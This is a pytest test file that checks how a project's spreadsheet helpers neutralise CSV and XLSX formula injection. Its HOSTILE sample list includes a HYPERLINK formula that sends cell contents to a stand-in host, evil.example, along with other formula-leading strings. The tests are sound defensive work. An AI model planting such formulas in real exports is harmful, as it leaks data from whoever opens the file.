"""Cells that a spreadsheet would run as a formula are neutralised (OWASP CSV injection)."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from droomplan.core import spreadsheets

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert spreadsheets.neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Maastricht", "< 5", "x", "", "–", None, -3, -2.5, Decimal("-1.50"), 0, True,
     datetime.date(2026, 6, 30)],
)  # fmt: skip
def test_other_values_are_left_alone(value):
    assert spreadsheets.neutralise(value) == value


def test_csv_writer_neutralises_text_cells_and_keeps_numbers():
    out = io.StringIO()
    writer = spreadsheets.csv_writer(out)
    writer.writerow(["=1+1", -3, "-3", "gewoon"])
    assert out.getvalue() == "'=1+1,-3,'-3,gewoon\n"


def test_csv_dict_writer_neutralises_every_value():
    out = io.StringIO()
    writer = spreadsheets.csv_dict_writer(out, fieldnames=["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "@cmd", "b": 12})
    assert out.getvalue() == "a,b\n'@cmd,12\n"


def test_xlsx_rows_keep_hostile_text_as_text_and_numbers_as_numbers(tmp_path):
    book = Workbook()
    sheet = book.active
    spreadsheets.append_row(sheet, [HOSTILE[0], -3, Decimal("-1.5"), "-2+3", "gewoon"])
    book.save(tmp_path / "t.xlsx")
    row = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows())
    assert [c.data_type for c in row] == ["s", "n", "n", "s", "s"]
    assert row[0].value == HOSTILE[0]  # text, shown as typed, never a formula
    assert row[0].quotePrefix and row[3].quotePrefix
    assert not row[4].quotePrefix
    assert row[1].value == -3 and row[2].value == -1.5


def test_write_only_rows_keep_hostile_text_as_text_and_numbers_as_numbers(tmp_path):
    """The same protection in a write-only workbook (the large downloads: bounded memory)."""
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    assert spreadsheets.is_write_only(sheet)
    spreadsheets.append_row(sheet, ["kop", HOSTILE[1]], font=Font(bold=True))
    spreadsheets.append_row(sheet, [HOSTILE[0], -3, Decimal("-1.5"), "-2+3", "gewoon"])
    book.save(tmp_path / "t.xlsx")
    header, row = load_workbook(tmp_path / "t.xlsx").active.iter_rows()
    assert header[0].font.bold and header[1].value == HOSTILE[1] and header[1].quotePrefix
    assert [c.data_type for c in row] == ["s", "n", "n", "s", "s"]
    assert row[0].value == HOSTILE[0]  # text, shown as typed, never a formula
    assert row[0].quotePrefix and row[3].quotePrefix
    assert not row[4].quotePrefix
    assert row[1].value == -3 and row[2].value == -1.5
